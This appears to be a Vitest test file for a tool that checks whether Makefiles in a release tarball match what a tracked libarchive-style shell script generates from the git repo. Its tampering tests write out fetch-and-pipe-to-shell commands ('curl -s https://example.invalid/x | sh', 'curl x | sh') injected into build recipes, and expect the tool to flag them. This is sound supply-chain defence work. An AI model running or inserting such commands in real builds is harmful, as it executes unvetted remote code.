/**
 * Makefiles a tracked shell script writes with echo lines over the tracked man pages (issue 11 d: libarchive's
 * doc/*\/Makefile by doc/update.sh), computed without running the script. End to end with real git and GNU tar;
 * tampered twins stay high.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { sectionMakefile, wikiName } from '../../src/classify/echo-script.js';
import { exitCodeOf } from '../../src/pipeline/result.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const UPDATE_SH = String.raw`#!/bin/sh
set -e
# Collect list of man pages
test -d man || mkdir man
cd man
MANPAGES=` + '`for d in lib tool;do ls ../../$d/*.[135];done | grep -v \'\\.so\\.\'`' + String.raw`
cd ..

# Build Makefile in 'man' directory
cd man
chmod +w .
rm -f *.[135] Makefile
echo > Makefile
echo "default: all" >>Makefile
echo >>Makefile
all="all:"
for f in $MANPAGES; do
    outname="` + '`basename $f`' + String.raw`"
    echo >> Makefile
    echo $outname: ../conv.awk $f >> Makefile
    echo "	awk -f ../conv.awk < $f > $outname" >> Makefile
    all="$all $outname"
done
echo $all >>Makefile
cd ..

# Build Makefile in 'wiki' directory
test -d wiki || mkdir wiki
cd wiki
echo > Makefile
all="all:"
for f in $MANPAGES; do
    outname="` + '`basename $f | awk \'{ac=split($0,a,"[_.-]");o="ManPage";for(w=0;w<=ac;++w){o=o toupper(substr(a[w],1,1)) substr(a[w],2)};print o}\'`' + String.raw`.wiki"
    echo >> Makefile
    echo $outname: $f >> Makefile
    echo "	awk -f ../wiki.awk < $f > $outname" >> Makefile
    all="$all $outname"
done
echo $all >>Makefile
cd ..
`;
const TRACKED = { 'doc/update.sh': UPDATE_SH, 'lib/x_read.3': '.Dd x\n', 'lib/x.3': '.Dd x\n', 'lib/x-formats.5': '.Dd x\n', 'lib/x.so.3': 'not a page\n', 'tool/xtool.1': '.Dd x\n', 'tool/README': 'no\n' };
const PAGES = ['x-formats.5', 'x.3', 'x_read.3']; // C-locale order: '-' < '.' < '_'
const MAN = `\ndefault: all\n\n${[...PAGES.map((p) => `lib/${p}`), 'tool/xtool.1'].map((p) => `\n${p.split('/')[1]}: ../conv.awk ../../${p}\n\tawk -f ../conv.awk < ../../${p} > ${p.split('/')[1]}\n`).join('')}all: x-formats.5 x.3 x_read.3 xtool.1\n`;
const WIKI = `\n${[...PAGES.map((p) => `lib/${p}`), 'tool/xtool.1'].map((p) => `\n${wikiName(p.split('/')[1]!)}: ../../${p}\n\tawk -f ../wiki.awk < ../../${p} > ${wikiName(p.split('/')[1]!)}\n`).join('')}all: ManPageXFormats5.wiki ManPageX3.wiki ManPageXRead3.wiki ManPageXtool1.wiki\n`;

describe('a Makefile written by a tracked script over the tracked man pages', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit(TRACKED, 'sources', '2024-03-05T10:00:00Z');
  repo.tag('v1.0');
  let n = 0;
  const run = async (files: Record<string, string>, extra: Record<string, string> = {}) => {
    const dir = join(root, `t${++n}`, 'x-1.0');
    writeFiles(dir, { ...TRACKED, ...extra, ...Object.fromEntries(Object.entries(files).map(([k, v]) => [`doc/${k}/Makefile`, v])) });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'x-1.0.tar.gz') }), repo: repo.dir, cacheDir: join(root, `c${n}`) });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, f])) };
  };

  it('helpers', () => {
    expect(wikiName('archive_entry_acl.3')).toBe('ManPageArchiveEntryAcl3.wiki');
    expect(wikiName('libarchive-formats.5')).toBe('ManPageLibarchiveFormats5.wiki');
    expect(sectionMakefile(UPDATE_SH, 'man', ['../../lib/a.3'])).toBe('\ndefault: all\n\n\na.3: ../conv.awk ../../lib/a.3\n\tawk -f ../conv.awk < ../../lib/a.3 > a.3\nall: a.3\n');
    expect(sectionMakefile(UPDATE_SH.replace('chmod +w .', 'curl x | sh'), 'man', ['../../lib/a.3'])).toBeUndefined();
    expect(sectionMakefile(UPDATE_SH, 'pdf', ['../../lib/a.3'])).toBeUndefined();
  });

  it('computes each section\'s Makefile and finds it identical', async () => {
    const { r, by } = await run({ man: MAN, wiki: WIKI });
    for (const d of ['man', 'wiki'])
      expect({ code: by[`doc/${d}/Makefile`]!.code, evidence: by[`doc/${d}/Makefile`]!.evidence }).toEqual({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'computed', source: 'doc/update.sh', generator: 'doc/update.sh', inputs: ['lib/*.[135]', 'tool/*.[135]'] } });
    expect(exitCodeOf(r.verdict)).toBe(0);
  });

  it('tampered twins stay high (or critical): a changed recipe, a page git lacks, a page left out', async () => {
    const { by } = await run({ man: MAN.replace('awk -f ../conv.awk < ../../tool/xtool.1', 'curl -s https://example.invalid/x | sh; awk -f ../conv.awk < ../../tool/xtool.1'), wiki: WIKI.replace('all: ', 'all: ManPageEvil1.wiki ') });
    expect(by['doc/man/Makefile']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'critical' }); // a pipe into a shell
    expect(by['doc/wiki/Makefile']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    const extra = await run({ man: MAN }, { 'lib/evil.3': '.Dd x\n' });
    expect(extra.by['doc/man/Makefile']).toMatchObject({ code: 'GENERATED_FROM_SOURCE' }); // the tracked pages only: evil.3 is not in git
    const dropped = await run({ man: MAN.replace(/\nx\.3: [^\n]*\n[^\n]*\n/, '\n').replace(' x.3 ', ' ') });
    expect(dropped.by['doc/man/Makefile']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
  });
});
